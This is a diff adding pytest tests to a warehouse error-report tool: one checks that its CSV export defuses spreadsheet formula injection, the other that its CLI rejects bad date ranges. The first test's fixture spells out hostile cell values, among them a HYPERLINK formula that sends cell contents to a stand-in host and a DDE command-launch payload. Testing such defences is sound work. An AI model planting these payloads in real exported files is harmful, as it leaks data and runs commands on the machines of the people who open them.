@@ -218,3 +218,40 @@ def test_pdf_tables_stand_apart_their_headers_repeat_on_the_next_page_and_statio
     assert "2 个错误不属于任何人" in whole and "2 errors are nobody's" in whole
     ops = whole.index("OP-069 1")
     assert whole.index("步骤 / Step", ops) > ops  # the steps' table after the operators', with its own header
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted_and_numbers_stay_numbers(tmp_path):
+    """Operator ids, names and station ids come from the OMS: "=HYPERLINK(…)" as an operator id was written as is, and
+    Excel ran it. A text cell starting with = + - @ a tab or a carriage return gets a single quote in front (OWASP);
+    counts are numbers, written as numbers; the CSV says its days, zone, source and filter first."""
+    evil = {"=HYPERLINK(\"http://x/?\"&A1,\"pay\")": 1, "+1+cmd|' /C calc'!A0": 2, "-2+3": 3, "@SUM(1+1)": 4,
+            "\tTAB": 5, "\rCR": 6, "op1": 7, "ad\u202enimda": 8}
+    f = Figures(start="2026-11-15T16:00:00+00:00", end="2026-11-16T16:00:00+00:00", tz=TZ, scans=100, errors=36,
+                by_type={"wrong_item": 36}, by_station={"=1+1": 36}, by_operator=evil)
+    out = write_csv(f, tmp_path / "r.csv", operators={"op1": "=Zhang Min (K-001)"})
+    rows = list(csv.reader(out.read_text(encoding="utf-8-sig").splitlines()))
+    ops = {r[1]: r[2] for r in rows if r[0] == "operator"}
+    assert ops == {"'=HYPERLINK(\"http://x/?\"&A1,\"pay\")": "1", "'+1+cmd|' /C calc'!A0": "2", "'-2+3": "3",
+                   "'@SUM(1+1)": "4", "\\u0009TAB": "5", "\\u000dCR": "6", "'=Zhang Min (K-001)": "7",
+                   "ad\\u202enimda": "8"}
+    assert {r[1]: r[2] for r in rows if r[0] == "station"} == {"'=1+1": "36"}
+    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for c in r)
+    assert ["total", "errors", "36"] in rows  # a number, no quote
+    # what the figures are, read from their own bounds (the screen and the CLI say their source and filter)
+    assert rows[1:4] == [["report", "from", "2026-11-16"], ["report", "to", "2026-11-16"], ["report", "time_zone", TZ]]
+
+
+def test_cli_report_refuses_days_out_of_range_or_reversed_in_one_line(tmp_path):
+    """`--from 0001-01-01` failed with a raw ValueError, `--to 9999-12-31` with an OverflowError, and a first day
+    after the last wrote a report of zeros with rc 0: each is one line and rc 2, no file written."""
+    cfg = tmp_path / "station.toml"
+    cfg.write_text(f'[station]\ndata_dir = "{tmp_path / "station"}"\nwarehouse_tz = "Asia/Shanghai"\n',
+                   encoding="utf-8")
+    out = tmp_path / "r.csv"
+    for d_from, d_to, said in (("0001-01-01", "2026-11-22", "0001-01-01 is outside the days a report takes"),
+                               ("2026-11-16", "9999-12-31", "9999-12-31 is outside the days a report takes"),
+                               ("2026-11-22", "2026-11-16", "the first day (2026-11-22) is after the last (2026-11-16)")):
+        r = run_cli("report", "--from", d_from, "--to", d_to, "--format", "csv", "--out", str(out), "--config",
+                    str(cfg))
+        assert r.returncode == 2 and said in r.stderr and "Traceback" not in r.stderr, r.stderr
+        assert len(r.stderr.strip().splitlines()) == 1 and not out.exists(), r.stderr
